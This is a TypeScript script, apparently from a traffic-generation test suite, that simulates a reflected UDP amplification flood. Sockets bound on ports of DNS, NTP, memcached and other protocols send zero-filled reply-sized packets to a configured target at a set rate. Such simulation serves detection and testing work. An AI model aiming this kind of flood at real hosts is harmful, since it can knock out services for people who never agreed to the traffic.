// Open servers that answer what somebody asked in the victim's name. Each answers several times: to one port of the victim
// where the questions had one, or to another each time. None of them was asked by the victim.
import { createSocket, type Socket } from 'node:dgram';
import { setTimeout as delay } from 'node:timers/promises';
import { Random } from '../random.js';
import { readSettings, type TrafficSettings } from './settings.js';

/** `network`: the first two bytes of the servers' addresses; `count`: answers of all of them together. */
const settings = readSettings<TrafficSettings & { network: string; servers: number; count: number; ratePps: number }>();
/** Port, and least and most bytes of an answer: DNS, NTP, SNMP, CLDAP, IKE, SSDP, memcached. */
const PROTOCOLS = [
  [53, 480, 1400],
  [123, 440, 440],
  [161, 30, 1400],
  [389, 1200, 1400],
  [500, 180, 330],
  [1900, 250, 350],
  [11_211, 1000, 1400],
] as const;
/** Where the questions seemed to come from. */
const PORTS = {
  one: (_server: number, first: number): number => first,
  perServer: (server: number, first: number): number => 1024 + ((server * 7919 + first) % 60_000),
  any: (): number => random.integer(1024, 65_535),
};

const random = new Random(settings.seed);
const [port, least, most] = random.pick(PROTOCOLS);
const portOf = PORTS[random.pick(['one', 'perServer', 'any', 'any'] as const)];
const first = random.pick([80, 443, random.integer(1024, 65_535)]);

function open(address: string): Promise<Socket> {
  const socket = createSocket('udp4');
  // The victim's host says that it has no such port; a server does not mind.
  socket.on('error', () => undefined);
  return new Promise((resolve) => socket.bind(port, address, () => resolve(socket)));
}

const servers = await Promise.all(
  Array.from({ length: settings.servers }, (_, i) => open(`${settings.network}.${i >> 8}.${i & 0xff}`)),
);
const start = performance.now();
for (let sent = 0; sent < settings.count; await delay(2)) {
  const due = Math.min(settings.count, Math.ceil(((performance.now() - start) * settings.ratePps) / 1000));
  for (; sent < due; sent++) {
    const server = random.integer(0, servers.length - 1);
    servers[server]!.send(Buffer.alloc(random.integer(least, most)), portOf(server, first), settings.target);
  }
}
await delay(200);
process.exit(0);
